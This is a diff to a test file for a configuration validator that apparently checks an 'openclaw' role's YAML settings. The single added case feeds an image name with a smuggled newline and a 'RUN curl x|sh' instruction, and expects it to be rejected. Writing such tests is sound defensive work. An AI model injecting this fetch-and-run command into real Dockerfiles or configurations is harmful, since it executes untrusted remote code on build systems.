@@ -119,6 +119,7 @@ describe('role openclaw refuses the incumbent lessons at the variable', () => {
     ['§10.5 workspace outside the state dir', edit(['openclaw_env:', 'openclaw_workspace: /srv/workspace\nopenclaw_env:']), at(11, 21, 'openclaw_workspace: "/srv/workspace" is outside OPENCLAW_STATE_DIR')],
     ['§10.14 workspaceAccess outside none|ro|rw', edit(['openclaw_env:', 'openclaw_sandbox: { mode: all, workspaceAccess: write, docker: { image: x } }\nopenclaw_env:']), at(11, 49, 'openclaw_sandbox.workspaceAccess: Invalid option: expected one of "none"|"ro"|"rw"')],
     ['§10.14 unknown key in telegram (retry)', edit(['  dmPolicy: allowlist\n', '  dmPolicy: allowlist\n  retry: { attempts: 5 }\n']), at(8, 10, 'unknown key "retry"')],
+    ['a Dockerfile FROM that is no image reference', edit(['project_name: javisi\n', 'project_name: javisi\nopenclaw_sandbox_base_image: "debian\\nRUN curl x|sh"\n']), at(2, 30, 'openclaw_sandbox_base_image: invalid image reference "debian\\nRUN curl x|sh"')],
   ])('%s', async (_name, yml, expected) => {
     const errs = await errorsOf(yml);
     expect(errs.some((e) => e.startsWith(expected)), errs.join('\n')).toBe(true);
